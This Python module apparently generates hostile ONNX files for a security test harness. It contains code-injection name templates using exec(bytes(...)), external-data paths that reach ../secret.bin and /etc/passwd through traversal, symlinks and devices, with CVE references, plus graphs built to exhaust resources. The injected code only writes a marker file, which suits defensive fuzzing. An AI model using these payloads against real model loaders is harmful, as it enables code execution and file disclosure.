"""ONNX files: names that become code, external data that lie elsewhere, and graphs without end."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import numpy as np

from hostile.payload import Case, Payload

__all__ = ["payloads"]

#: Text that escapes from a string literal, an identifier or a comment in generated source.
_ESCAPES: dict[str, str] = {
    "issue 15, CR": 'conv")\rexec(bytes([{bytes}]))\rdef zq7x(self,x):\r    return self#.weight',
    "quote": 'conv") or exec(bytes([{bytes}])) or ("zq7x',
    "quote and LF": 'zq7x")\n    exec(bytes([{bytes}]))\n    getattr(self, "conv',
    "single quote": "zq7x') or exec(bytes([{bytes}])) or ('",
    "brackets": "zq7x, exec(bytes([{bytes}]))",
    "default": "zq7x = exec(bytes([{bytes}]))",
    "annotation": "zq7x : exec(bytes([{bytes}]))",
    "semicolon": "zq7x; exec(bytes([{bytes}])); y",
    "backslash": 'zq7x\\") or exec(bytes([{bytes}])) #',
    "comment": "zq7x # {bytes}",
    "form feed": "zq7x\x0cexec(bytes([{bytes}]))",
    "line separator": "zq7x\u2028exec(bytes([{bytes}]))",
    "f-string": "{{exec(bytes([{bytes}]))}}zq7x",
    "percent": "%(zq7x)s{bytes}",
    "triple quote": 'zq7x"""\nexec(bytes([{bytes}]))\n"""',
    "NUL": "zq7x\0exec(bytes([{bytes}]))",
    "dunder": "__class__.__init__.__globals__.zq7x",
    "keyword": "import zq7x",
    "walrus": "(zq7x:=exec(bytes([{bytes}])))",
    "escape sequence": "\x1b]0;zq7x\x07\x1b[31m",
    "HTML": "<script>zq7x</script>",
    "empty": "",
    "dots": "..zq7x..",
    "slashes": "/zq7x//../x",
    "surrogate-like": "zq7x\ufffe\u202e",
    "blank": " ",
    "long": "zq7x" * 20_000,
    "prefixes": "module." * 50_000 + "zq7x",
    "torch attribute": "forward",
    "torch attribute 2": "_modules",
    "digits": "0zq7x",
}
_PLACES = ("initialiser", "node", "input", "output", "value", "domain", "operator", "function", "attribute", "graph", "all")  # fmt: skip


def payloads() -> Iterator[Payload]:
    """Escapes in every place, external data of every kind, and shapes and sizes."""
    for place in _PLACES:
        for name, text in _ESCAPES.items():
            yield _payload(
                f"{name} in {place}", f"a name in {place} that becomes source (issue 15.1)", _named(place, text)
            )
    for name, about, location, extra in _EXTERNAL:
        yield _payload(f"external {name}", about, _external(location, extra))
    for name, (about, make) in _GRAPHS.items():
        yield _payload(name, about, lambda case, make=make: _save(make(), case))


def _payload(name: str, about: str, write: Callable[[Case], None]) -> Payload:
    return Payload("onnx", name, about, write, "m.onnx", modules=("antigravity",))


def _save(model: Any, case: Case) -> None:
    (case.folder / "m.onnx").write_bytes(model if isinstance(model, bytes) else model.SerializeToString())


def _model(**changes: Any) -> Any:
    """One convolution and a ReLU, with names changed."""
    from onnx import TensorProto, helper, numpy_helper

    n = {"input": "x", "initialiser": "conv.weight", "value": "between", "output": "y", "node": "conv", "graph": "g"}
    n |= {key: text for key, text in changes.items() if key in n}
    weight = np.random.default_rng(0).standard_normal((8, 3, 3, 3)).astype(np.float32)
    value = helper.make_tensor_value_info
    domain, operator = changes.get("domain", ""), changes.get("operator", "Relu")
    nodes = [
        helper.make_node("Conv", [n["input"], n["initialiser"]], [n["value"]], name=n["node"]),
        helper.make_node(operator, [n["value"]], [n["output"]], name=n["node"] and f"{n['node']}.r", domain=domain),
    ]
    if "attribute" in changes:
        nodes[0].attribute.append(helper.make_attribute("auto_pad", changes["attribute"]))
    ends = [value(n["input"], TensorProto.FLOAT, [1, 3, 8, 8])], [value(n["output"], TensorProto.FLOAT, [1, 8, 6, 6])]
    graph = helper.make_graph(nodes, n["graph"], *ends, [numpy_helper.from_array(weight, n["initialiser"])])
    functions = []
    if "function" in changes:
        text = changes["function"]
        inner = helper.make_node("Relu", [f"{text}a"], [f"{text}b"], name=text)
        functions = [helper.make_function("", text, [f"{text}a"], [f"{text}b"], [inner], [helper.make_opsetid("", 17)])]
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], functions=functions)
    model.ir_version = 8
    return model


def _named(place: str, text: str) -> Callable[[Case], None]:
    def write(case: Case) -> None:
        code = f"open({str(case.marker)!r}, 'w').close()"
        filled = text.replace("{{", "{").replace("}}", "}").replace("{bytes}", ",".join(str(b) for b in code.encode()))
        places = (
            [p for p in _PLACES if p not in {"all", "domain", "operator", "attribute"}] if place == "all" else [place]
        )
        _save(_model(**{p: filled if place != "all" else f"{filled}{i}" for i, p in enumerate(places)}), case)

    return write


_UP = "../" * 8
_EXTERNAL: tuple[tuple[str, str, str, str], ...] = (
    ("parent", "CVE-2022-25882", "../secret.bin", ""),
    ("parents", "CVE-2022-25882", f"{_UP}etc/passwd", ""),
    ("absolute", "CVE-2022-25882", "/etc/passwd", ""),
    ("secret", "CVE-2022-25882", "{secret}", ""),
    ("nested", "CVE-2024-27318", "sub/../../secret.bin", ""),
    ("nested, lstrip", "CVE-2024-27318", "./../../secret.bin", ""),
    ("backslashes", "CVE-2024-27318", "..\\..\\secret.bin", ""),
    ("doubled slash", "CVE-2024-27318", "//etc/passwd", ""),
    ("symbolic link", "CVE-2026-27489", "link.bin", "symlink"),
    ("symbolic link to a folder", "CVE-2026-27489", "links/secret.bin", "symdir"),
    ("hard link", "CVE-2026-34446", "hard.bin", "hardlink"),
    ("device", "an endless file", "zero.bin", "device"),
    ("pipe", "a file that never ends", "pipe.bin", "fifo"),
    ("folder", "a folder for a file", "sub", "folder"),
    ("itself", "the model's own file", "m.onnx", ""),
    ("empty", "no name", "", ""),
    ("NUL", "a NUL in the name", "a\0b", ""),
    ("URL", "a name that is an address", "http://127.0.0.1:9/zq7x", ""),
    ("file URL", "a name that is an address", "file:///etc/passwd", ""),
    ("offset", "an offset behind the end", "data.bin", "offset"),
    ("negative", "a negative offset", "data.bin", "negative"),
    ("huge length", "CVE-2026-34445: ExternalDataInfo", "data.bin", "length"),
    ("length no number", "CVE-2026-34445", "data.bin", "text"),
    ("other keys", "CVE-2026-34445: setattr of any key", "data.bin", "keys"),
    ("in two tensors", "one file, many tensors", "data.bin", "many"),
    ("long", "a name of a megabyte", "x" * (1 << 20), ""),
    ("escape", "control characters in a name", "\x1b[2J\x1b]0;zq7x\x07", ""),
)


def _external(location: str, extra: str) -> Callable[[Case], None]:
    def write(case: Case) -> None:
        import os

        from onnx import TensorProto

        model = _model()
        weight = model.graph.initializer[0]
        weight.ClearField("raw_data")
        weight.data_location = TensorProto.EXTERNAL
        offset, length = {"offset": ("1000000", "864"), "negative": ("-1", "864"), "length": ("0", str(1 << 40)), "text": ("zq7x", "1e9")}.get(extra, ("0", "864"))  # fmt: skip
        place = location.replace("{secret}", str(case.secret))
        pairs = [("location", place), ("offset", offset), ("length", length)]
        if extra == "keys":
            pairs += [("basepath", "/etc"), ("__class__", "zq7x"), ("__dict__", "zq7x"), ("checksum", "\0")]
        for key, value in pairs:
            weight.external_data.add(key=key, value=value)
        if extra == "many":
            for number in range(2000):
                model.graph.initializer.add().CopyFrom(weight)
                model.graph.initializer[-1].name = f"zq7x{number}"
        folder = case.folder
        (folder / "sub").mkdir()
        (folder / "data.bin").write_bytes(bytes(864))
        made: dict[str, Callable[[], object]] = {
            "symlink": lambda: (folder / "link.bin").symlink_to(case.secret),
            "symdir": lambda: (folder / "links").symlink_to(case.secret.parent),
            "hardlink": lambda: (folder / "hard.bin").hardlink_to(case.secret),
            "device": lambda: (folder / "zero.bin").symlink_to("/dev/zero"),
            "fifo": lambda: os.mkfifo(folder / "pipe.bin"),
        }
        made.get(extra, lambda: None)()
        _save(model, case)

    return write


def _chain(count: int, *, one_name: bool = False, operator: str = "Relu") -> Any:
    from onnx import helper

    model = _model()
    previous = "y"
    for number in range(count):
        name = "zq7x" if one_name else f"zq7x{number}"
        model.graph.node.append(helper.make_node(operator, [previous], [f"v{number}"], name=name))
        previous = f"v{number}"
    model.graph.output[0].name = previous
    return model


def _shaped(*dims: int, keep: bool = True) -> Any:
    model = _model()
    weight = model.graph.initializer[0]
    del weight.dims[:]
    weight.dims.extend(dims)
    if not keep:
        weight.ClearField("raw_data")
    return model


def _many_convolutions(count: int) -> Any:
    from onnx import helper, numpy_helper

    model = _model()
    weight = np.ones((1, 1, 3, 3), np.float32)
    for number in range(count):
        model.graph.initializer.append(numpy_helper.from_array(weight, f"w{number}"))
        model.graph.node.append(helper.make_node("Conv", ["x", f"w{number}"], [f"o{number}"], name=f"zq7x{number}"))
    return model


def _typed(number: int, size: int) -> Any:
    model = _model()
    weight = model.graph.initializer[0]
    weight.data_type, weight.raw_data = number, bytes(216 * size)
    return model


def _loop(depth: int) -> Any:
    from onnx import helper

    graph = helper.make_graph([helper.make_node("Relu", ["a"], ["b"], name="zq7x")], "zq7x", [], [])
    for number in range(depth):
        node = helper.make_node("If", ["c"], [f"z{number}"], name="zq7x", then_branch=graph, else_branch=graph)
        graph = helper.make_graph([node], "zq7x", [], [])
    model = _model()
    model.graph.node.append(graph.node[0])
    return model


_GRAPHS: dict[str, tuple[str, Callable[[], Any]]] = {
    "a chain of 50,000 nodes": ("issue 15.12", lambda: _chain(50_000)),
    "a chain of one name": ("issue 15.12", lambda: _chain(20_000, one_name=True)),
    "a chain of sums": ("each value used twice", lambda: _chain(5_000, operator="Identity")),
    "20,000 small convolutions": ("issue 15.12", lambda: _many_convolutions(20_000)),
    "a shape of a terabyte": ("CVE-2024-27319: out of bounds", lambda: _shaped(1 << 20, 1 << 20)),
    "a shape that overflows": ("CVE-2024-27319", lambda: _shaped(1 << 62, 4)),
    "a negative shape": ("CVE-2024-27319", lambda: _shaped(-1, 3, 3, 3)),
    "a shape without data": ("a lying shape", lambda: _shaped(1 << 15, 1 << 14, 3, 3, keep=False)),
    "zero channels": ("issue 15.10", lambda: _shaped(8, 0, 3, 3, keep=False)),
    "no dimensions": ("a scalar weight", _shaped),
    "10,000 dimensions": ("a weight of too many axes", lambda: _shaped(*[1] * 10_000)),
    "subgraphs 12 deep": ("branches in branches", lambda: _loop(12)),
    "no bytes": ("an empty file", lambda: b""),
    "no model": ("bytes that are no message", lambda: b"\xff" * 1000),
    "groups nested": ("a message nested without end", lambda: b"\x3b" * 100_000),
    "half": ("a truncated file", lambda: _model().SerializeToString()[:400]),
    **{f"type {n}": ("every declared type of ONNX", lambda n=n: _typed(n, 4)) for n in range(26)},
    **{f"type {n}, short": ("a type with too few bytes", lambda n=n: _typed(n, 0)) for n in (1, 6, 8, 10, 16, 17, 23)},
    "type out of range": ("a type that nobody knows", lambda: _typed(9999, 4)),
}
